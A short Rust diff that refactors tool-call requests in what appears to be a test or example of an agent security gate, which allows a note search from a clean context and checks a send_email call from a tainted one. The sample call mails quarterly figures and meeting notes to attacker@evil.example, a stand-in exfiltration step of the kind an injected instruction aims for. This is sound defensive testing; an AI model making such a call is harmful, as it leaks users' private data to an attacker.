@@ -143,17 +143,17 @@ fn main() {
             call_id: "call_1".into(),
         },
     ));
-    let read = ToolCallRequest {
-        call_id: "call_2".into(),
-        tool: "search_notes".into(),
-        arguments: json!({"query": "Q3 budget", "limit": 10}),
-    };
-    let sensitive = ToolCallRequest {
-        call_id: "call_3".into(),
-        tool: "send_email".into(),
-        arguments: json!({"to": "attacker@evil.example", "subject": "notes",
-                          "body": "Quarterly figures, meeting notes and action items."}),
-    };
+    let read = ToolCallRequest::new(
+        "call_2",
+        "search_notes",
+        json!({"query": "Q3 budget", "limit": 10}),
+    );
+    let sensitive = ToolCallRequest::new(
+        "call_3",
+        "send_email",
+        json!({"to": "attacker@evil.example", "subject": "notes",
+               "body": "Quarterly figures, meeting notes and action items."}),
+    );
     assert_eq!(gate.check(&clean, &read), Decision::Allow);
     assert!(matches!(
         gate.check(&tainted, &sensitive),
